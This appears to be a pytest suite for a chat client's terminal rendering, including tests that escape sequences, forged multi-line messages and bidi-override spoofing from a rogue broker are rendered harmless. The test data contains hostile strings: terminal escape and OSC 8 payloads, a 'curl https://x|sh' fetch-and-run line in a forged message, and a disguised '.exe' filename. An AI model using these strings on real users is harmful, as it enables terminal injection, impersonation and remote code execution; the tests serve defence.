"""Rendering, without a terminal: rich Console recording into a string."""

from __future__ import annotations

import io
from datetime import date

import pytest
from rich.console import Console

from client import _render as r
from messages import JoinEvent, LeaveEvent, MsgEvent, NickEvent, Notice, PmPush, TopicEvent, WhoUser

TS = "2026-11-24T12:34:56.789Z"


pytestmark = pytest.mark.usefixtures("utc")  # times as the snapshots show them


def plain(renderable: object, width: int = 80) -> str:
    console = Console(file=io.StringIO(), width=width, color_system=None, highlight=False)
    console.print(renderable, soft_wrap=True)
    return console.file.getvalue()  # type: ignore[attr-defined]


def styled(renderable: object) -> str:
    console = Console(file=io.StringIO(), width=80, color_system="truecolor", force_terminal=True)
    console.print(renderable, soft_wrap=True)
    return console.file.getvalue()  # type: ignore[attr-defined]


def msg(text: str, sender: str = "bob", **kw: object) -> MsgEvent:
    return MsgEvent(room="general", seq=1, ts=TS, from_=sender, text=text, **kw)  # type: ignore[arg-type]


def test_message_line_has_time_nick_and_text() -> None:
    assert (
        plain(r.event_line(msg("hello"), me="alice", current="general"))
        == "[12:34:56] <bob> hello\n"
    )


def test_other_room_is_named() -> None:
    assert (
        plain(r.event_line(msg("hi"), me="alice", current="dev"))
        == "[12:34:56] #general <bob> hi\n"
    )


def test_markup_from_the_network_stays_literal() -> None:
    line = r.event_line(msg("[bold red]boom[/] :smile:"), me="alice", current="general")
    assert plain(line) == "[12:34:56] <bob> [bold red]boom[/] :smile:\n"
    assert "\x1b[1;31m" not in styled(line)


def test_action_pm_notice_and_presence_lines() -> None:
    me = "alice"
    assert (
        plain(r.event_line(msg("waves", action=True), me=me, current="general"))
        == "[12:34:56] * bob waves\n"
    )
    pm = PmPush(from_="bob", to="alice", text="psst", ts=TS)
    assert plain(r.event_line(pm, me=me)) == "[12:34:56] [pm from bob] psst\n"
    assert plain(r.sent_pm_line("bob", "hi", TS)) == "[12:34:56] [pm to bob] hi\n"
    assert plain(r.event_line(Notice(text="bye all"), me=me)) == "*** bye all\n"
    assert plain(r.event_line(JoinEvent(room="general", seq=2, ts=TS, nick="bob"), me=me)) == (
        "[12:34:56] --> bob joined #general\n"
    )
    leave = LeaveEvent(room="general", seq=3, ts=TS, nick="bob", reason="timeout")
    assert plain(r.event_line(leave, me=me)) == "[12:34:56] <-- bob left #general (timed out)\n"
    nick = NickEvent(room="general", seq=4, ts=TS, old="bob", new="rob")
    assert plain(r.event_line(nick, me=me)) == "[12:34:56] --- bob is now known as rob\n"
    topic = TopicEvent(room="general", seq=5, ts=TS, nick="bob", topic="[i]x[/i]")
    assert (
        plain(r.event_line(topic, me=me))
        == "[12:34:56] --- bob set the topic of #general: [i]x[/i]\n"
    )


def test_mentions_are_words_and_highlighted() -> None:
    assert r.mentions("hey alice!", "alice") and r.mentions("ALICE: hi", "alice")
    assert not r.mentions("malice aforethought", "alice") and not r.mentions("alice2", "alice")
    assert "\x1b[1;7m" in styled(r.event_line(msg("hi alice"), me="alice", current="general"))
    assert "\x1b[1;7m" not in styled(r.event_line(msg("hi bob"), me="alice", current="general"))


def test_nick_colors_are_stable_and_spread() -> None:
    assert r.nick_color("Alice") == r.nick_color("alice")
    assert len({r.nick_color(f"user{i}") for i in range(50)}) > 5


def test_tables_and_date_line() -> None:
    out = plain(
        r.who_table(
            "online: 2", [WhoUser(nick="bob", idle_ms=125_000), WhoUser(nick="al", idle_ms=0)]
        )
    )
    assert out.splitlines()[0] == "online: 2"
    assert out.index("al ") < out.index("bob") and "2m" in out and "0s" in out
    assert plain(r.date_line(date(2026, 11, 25))) == "--- Wednesday 25 November 2026 ---\n"
    from client._commands import COMMANDS

    help_text = plain(r.help_table([(c.usage, c.help, c.aliases) for c in COMMANDS]), width=120)
    for c in COMMANDS:
        assert c.usage in help_text and all(f"/{a}" in help_text for a in c.aliases)
    assert r.idle(3_723_000) == "1h02m"
    quiet = plain(
        r.who_table(
            "#ops", [WhoUser(nick="tail-1", idle_ms=0, quiet=True), WhoUser(nick="zoe", idle_ms=0)]
        )
    )
    assert quiet.index("zoe") < quiet.index("tail-1 (script or reader)")


# ------------------------------------------ what a rogue broker or peer sends


ROGUE = "a\x1b[31mred\x1b]8;;http://evil\x07link\x9b31m"


def test_escape_sequences_from_the_network_never_reach_the_terminal() -> None:
    """Issue 11, row 14: ESC, OSC 8 and C1 CSI in events from a rogue broker
    reached the terminal. They are shown as markers, styled or not."""
    ev = msg(ROGUE, sender="ev\x1bil")
    for out in (plain(r.event_line(ev, me="alice")), styled(r.event_line(ev, me="alice"))):
        assert "\x1b]" not in out and "\x9b" not in out and "\x07" not in out
        assert "\x1b[31mred" not in out and "\\x1b" in out
    assert plain(r.event_line(ev, me="alice")) == (
        "[12:34:56] #general <ev\\x1bil> a\\x1b[31mred\\x1b]8;;http://evil\\x07link\\x9b31m\n"
    )
    # In colour the only escape sequences are rich's own styling.
    out = styled(r.event_line(ev, me="alice"))
    assert "\\x1b" in out and "\x1b]8" not in out


def test_a_multi_line_text_cannot_pass_for_another_sender() -> None:
    """Row 14: 'ok\\n[12:00:00] <bob> new VPN: curl ...|sh' printed a line
    that looked like bob's, with NO_COLOR and in a pipe too."""
    forged = "ok\n[12:00:00] <bob> new VPN: curl https://x|sh"
    lines = plain(r.event_line(msg(forged, sender="mallory"), me="alice", current="general"))
    first, second = lines.splitlines()
    assert first == "[12:34:56] <mallory> ok"
    assert (
        second == " " * len("[12:34:56] <mallory> ") + "[12:00:00] <bob> new VPN: curl https://x|sh"
    )
    pm = PmPush(from_="mallory", to="alice", text=forged, ts=TS)
    assert plain(r.event_line(pm, me="alice")).splitlines()[1].startswith(" " * 10)


def test_bidi_overrides_and_invisible_characters_are_shown() -> None:
    """Row 15: 'invoice_\\u202efdp.exe' reads as 'invoice_exe.pdf'."""
    out = plain(r.event_line(msg("invoice_\u202efdp.exe z\u200bw\ufeff\u2066x"), me="a"))
    assert "invoice_<U+202E>fdp.exe z<U+200B>w<U+FEFF><U+2066>x" in out
    assert "\u202e" not in out and "\u200b" not in out
    assert plain(r.event_line(msg("été 日本 ok\ttab"), me="a")).endswith("été 日本 ok    tab\n")
    # Markers stand out from the same characters typed literally.
    assert "\x1b[7m" in styled(r.visible("x\u202ey"))


def test_everything_else_from_the_network_is_made_safe() -> None:
    topic = TopicEvent(room="general", seq=1, ts=TS, nick="bob", topic="new\x1b[2J\ntopic")
    assert "\x1b[2J" not in plain(r.event_line(topic, me="a"))
    assert plain(r.event_line(topic, me="a")).count("\n") == 1
    assert plain(r.info("topic: \x1b[2Jx\ny")) == "-!- topic: \\x1b[2Jx\\ny\n"
    assert "\x1b" not in plain(r.error("\x1bbad"))
    assert "\\x1b" in plain(r.who_table("w", [WhoUser(nick="e\x1bvil", idle_ms=0)]))
    leave = LeaveEvent(room="general", seq=1, ts=TS, nick="bob", reason="\x1b[5m")
    assert "\x1b[5m" not in plain(r.event_line(leave, me="a"))
    notice = Notice(text="shut\x1bdown\nnow")
    assert plain(r.event_line(notice, me="a")) == "*** shut\\x1bdown\n    now\n"


def test_bot_logs_are_safe() -> None:
    import logging

    record = logging.LogRecord(
        "zchat.bot", logging.ERROR, "", 0, "failed on %r", ("\x1b[2J",), None
    )
    assert "\x1b" not in r.SafeFormatter("%(message)s").format(record)
